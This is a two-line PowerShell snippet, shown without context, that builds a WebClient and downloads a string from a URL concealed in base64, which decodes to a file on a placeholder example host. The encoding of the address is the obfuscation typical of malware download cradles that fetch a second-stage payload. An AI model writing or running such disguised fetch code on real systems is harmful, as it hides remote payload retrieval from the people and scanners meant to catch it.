$wc = New-Object System.Net.WebClient
$wc.DownloadString([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovL2EuZXhhbXBsZS9wL3gudHh0')))
